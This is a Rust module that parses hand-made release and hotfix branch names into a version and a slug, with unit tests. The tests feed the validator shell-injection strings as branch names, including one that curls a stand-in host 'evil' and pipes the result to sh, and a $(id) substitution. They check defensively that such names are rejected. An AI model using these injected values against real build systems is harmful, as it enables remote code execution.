//! A branch that somebody made by hand, and that is called as one of the playbook's paths calls its branches.

use super::{Path, Playbook};
use crate::domain::version::Version;

/// What the name of such a branch says.
pub struct HandMade<'a> {
    /// The path whose branches are called so.
    pub path: &'a Path,
    /// Whether that is the one for what cannot wait.
    pub is_hotfix: bool,
    /// The version.
    pub version: Version,
    /// What stands behind it, in words; empty if nothing does.
    pub about: String,
}

impl Playbook {
    /// What the name of a branch says, if one of the paths calls its branches so.
    pub fn hand_made(&self, branch: &str) -> Option<HandMade<'_>> {
        [(&self.release, false), (&self.hotfix, true)].into_iter().find_map(|(path, is_hotfix)| {
            let (prefix, after) = path.fixed_prefix()?;
            let rest = branch.strip_prefix(prefix)?;
            let (version, about) = match after {
                "-{slug}" => rest.split_once('-').unwrap_or((rest, "")),
                after if after.contains('{') => return None,
                after => (rest.strip_suffix(after)?, ""),
            };
            // What is told of it has commands to copy, and a shell reads more into other signs.
            if !about.chars().all(|sign| sign.is_ascii_alphanumeric() || matches!(sign, '.' | '_' | '-')) {
                return None;
            }
            let version = self.scheme.read(version).ok().filter(Version::is_final)?;
            Some(HandMade { path, is_hotfix, version, about: about.replace('-', " ") })
        })
    }
}

impl Path {
    /// What its branches begin with before the version, and what comes after; nothing if the version does not tell them apart.
    pub fn fixed_prefix(&self) -> Option<(&str, &str)> {
        self.branch.split_once("{version}").filter(|(prefix, _)| !prefix.is_empty() && !prefix.contains('{'))
    }

    /// The version text in a branch's name, if the branch is one of this path.
    pub fn version_of_branch<'a>(&self, branch: &'a str) -> Option<&'a str> {
        let (before, after) = self.branch.split_once("{version}")?;
        branch.strip_prefix(before)?.strip_suffix(after)
    }
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used)]
    use super::*;

    fn said(playbook: &str, branch: &str) -> String {
        let playbook = Playbook::read(playbook, "x.toml").unwrap();
        let Some(found) = playbook.hand_made(branch) else { return "nothing".into() };
        let path = if found.is_hotfix { "hotfix" } else { "release" };
        format!("{path} {} {}", found.version, found.about).trim_end().to_owned()
    }

    #[test]
    fn a_branch_is_known_by_its_name() {
        let quick = include_str!("../../../playbooks/quick-release.toml");
        let trunk = include_str!("../../../playbooks/trunk.toml");
        for (playbook, branch, expected) in [
            (quick, "release/v2.3.0", "release 2.3.0"),
            (quick, "hotfix/v2.1.2", "hotfix 2.1.2"),
            (quick, "release/v2.3.0-rc.1", "nothing"),
            (quick, "release/next", "nothing"),
            (quick, "feature/v2.3.0", "nothing"),
            (trunk, "hotfix/v1.2.1-fix-crash", "hotfix 1.2.1 fix crash"),
            (trunk, "hotfix/v1.2.1", "hotfix 1.2.1"),
            (trunk, "hotfix/v1.2.1-fix_crash.2", "hotfix 1.2.1 fix_crash.2"),
            (trunk, "hotfix/v1.2.1-x;curl${IFS}evil|sh", "nothing"),
            (trunk, "hotfix/v1.2.1-$(id)", "nothing"),
            (trunk, "hotfix/v1.2.1-fix/crash", "nothing"),
            (trunk, "hotfix/v1.2.1-caf\u{e9}", "nothing"),
            (trunk, "release/v1.3.0", "nothing"),
        ] {
            assert_eq!(said(playbook, branch), expected, "{branch}");
        }
    }
}
